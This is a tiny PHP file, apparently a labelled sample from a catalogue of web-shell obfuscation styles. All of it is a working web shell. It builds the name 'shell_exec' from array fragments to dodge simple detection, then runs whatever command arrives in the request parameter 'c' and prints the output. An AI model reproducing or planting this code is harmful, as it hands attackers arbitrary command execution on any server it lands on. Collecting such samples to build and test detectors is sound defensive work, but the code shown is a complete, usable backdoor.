<?php
// Family: obfuscation/var-function
// Style: function name from array elements
// Trait: name joined from an array of fragments with implode, called on request input
$parts = array('sh', 'ell', '_ex', 'ec');
$run = implode('', $parts);
print $run($_REQUEST['c']);
